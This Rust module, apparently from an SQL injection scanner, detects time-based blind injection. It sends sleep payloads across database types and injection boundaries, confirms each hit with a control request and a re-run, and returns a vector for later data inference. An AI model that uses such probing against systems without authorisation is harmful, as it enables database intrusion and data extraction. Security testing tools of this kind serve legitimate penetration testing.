use crate::core::error::Result;
use crate::oracle::is_slow;
use crate::payloads::{time_inference_template, time_templates, Dbms, Technique, Vector, BOUNDARIES};
use crate::tamper::TamperStage;

use super::ProbeCtx;

#[derive(Debug, Clone)]
pub struct TimeFinding {
    /// Conditional-sleep skeleton with the `[INFERENCE]` hole.
    pub vector: Vector,
    pub title: String,
    pub payload: String,
    pub dbms: Dbms,
}

/// Inject sleep expressions and accept only when the sleep request is slow,
/// the no-sleep control returns within threshold, and a re-run of the slow
/// request rules out a network spike.
pub(crate) async fn probe(ctx: &ProbeCtx<'_>, known: Option<Dbms>) -> Result<Option<TimeFinding>> {
    let timesec = ctx.config.timesec;
    let sleeptime = timesec as u64;
    let candidates: Vec<Dbms> = match known {
        Some(dbms) => vec![dbms],
        None => Dbms::ALL.to_vec(),
    };

    for dbms in candidates {
        for boundary in BOUNDARIES {
            for template in time_templates(dbms) {
                let vector = Vector::new(boundary.prefix, *template, boundary.suffix, Technique::Time);
                let sleep_payload = vector.render("", sleeptime, ctx.randnum);

                let slept = ctx
                    .send_payload(&sleep_payload, Technique::Time, TamperStage::Detection, Some(dbms))
                    .await?;
                if !is_slow(&slept, timesec) {
                    continue;
                }

                let control_payload = vector.render("", 0, ctx.randnum);
                let control = ctx
                    .send_payload(&control_payload, Technique::Time, TamperStage::Detection, Some(dbms))
                    .await?;
                if is_slow(&control, timesec) {
                    // endpoint is slow on its own, the delay proves nothing
                    continue;
                }

                let rerun = ctx
                    .send_payload(&sleep_payload, Technique::Time, TamperStage::Detection, Some(dbms))
                    .await?;
                if !is_slow(&rerun, timesec) {
                    continue;
                }

                tracing::info!("time-based injection confirmed for {}", dbms);
                return Ok(Some(TimeFinding {
                    vector: Vector::new(
                        boundary.prefix,
                        time_inference_template(dbms),
                        boundary.suffix,
                        Technique::Time,
                    ),
                    title: format!("{} time-based blind (query SLEEP)", dbms.name()),
                    payload: sleep_payload,
                    dbms,
                }));
            }
        }
    }
    Ok(None)
}
